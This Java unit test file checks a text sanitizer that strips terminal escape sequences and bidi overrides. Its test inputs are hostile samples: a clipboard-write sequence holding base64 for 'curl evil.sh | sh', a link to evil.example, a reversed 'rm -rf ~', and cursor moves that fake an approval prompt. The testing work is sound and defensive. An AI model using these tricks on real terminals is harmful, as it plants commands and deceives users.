package dev.ao.engine;

import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

class SafeTextTest {

    @Test
    void clipboardWriteAndScreenClearAreRemovedWhole() {
        String attack = "3 pods fixed\n\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007\u001b[2J\u001b[H";
        assertThat(SafeText.block(attack)).isEqualTo("3 pods fixed\n");
    }

    @Test
    void oscEndedByStringTerminatorAndHyperlinksKeepOnlyTheirText() {
        assertThat(SafeText.block("a\u001b]0;pwned title\u001b\\b")).isEqualTo("ab");
        assertThat(SafeText.block("\u001b]8;;https://evil.example/\u001b\\click\u001b]8;;\u001b\\"))
                .isEqualTo("click");
    }

    @Test
    void cursorMovesThatWouldEraseThePromptAreRemoved() {
        assertThat(SafeText.block("echo hi\u001b[1A\u001b[2K\rApprove? looks fine"))
                .isEqualTo("echo hiApprove? looks fine");
        assertThat(SafeText.block("x\u001b[?1049h\u001b[38;5;196my")).isEqualTo("xy");
    }

    @Test
    void dcsApcPmSosAndTwoCharacterEscapesAreRemoved() {
        assertThat(SafeText.block("a\u001bP+q544e\u001b\\b\u001b_apc\u001b\\c\u001b^pm\u0007d\u001bXsos\u001b\\e"))
                .isEqualTo("abcde");
        assertThat(SafeText.block("a\u001bcb\u001b7c\u001b(Bd\u001b#8e")).isEqualTo("abcde");
    }

    @Test
    void eightBitControlsAreRemovedWithTheirSequences() {
        // 0x9b is CSI, 0x9d OSC, 0x9c ST: terminals that honour 8-bit controls act on them like ESC [ and ESC ]
        assertThat(SafeText.block("a\u009b2Jb\u009d52;c;QUJD\u009cc\u0085d")).isEqualTo("abcd");
    }

    @Test
    void bidiOverridesThatDisguiseTextAreRemoved() {
        // "rm -rf ~ #" shown reversed as if harmless
        assertThat(SafeText.block("ls \u202e# ~ fr- mr\u202c \u2066x\u2069")).isEqualTo("ls # ~ fr- mr x");
    }

    @Test
    void otherControlsGoAndNewlinesAndTabsStayInABlockOnly() {
        assertThat(SafeText.block("a\u0007b\bc\u007fd\r\ne\tf\u0000")).isEqualTo("abcd\ne\tf");
        assertThat(SafeText.line("a\nb\tc\u001b[31md")).isEqualTo("a b cd");
    }

    @Test
    void aControlInsideASequenceEndsItAndPlainTextIsReturnedAsItIs() {
        assertThat(SafeText.block("a\u001b[12\nb")).isEqualTo("a\nb");
        String plain = "naïve ✓ 日本 — ok\n\ttabbed";
        assertThat(SafeText.block(plain)).isSameAs(plain);
        assertThat(SafeText.block(null)).isEmpty();
    }

    @Test
    void aSequenceSplitAcrossPiecesOfAStreamIsStillRemovedWhole() {
        SafeText.Filter f = new SafeText.Filter(true);
        String out = f.feed("line 1\n\u001b]5") + f.feed("2;c;QUJD") + f.feed("\u001b") + f.feed("\\line 2\n\u001b[")
                + f.feed("2J");
        assertThat(out).isEqualTo("line 1\nline 2\n");
    }
}
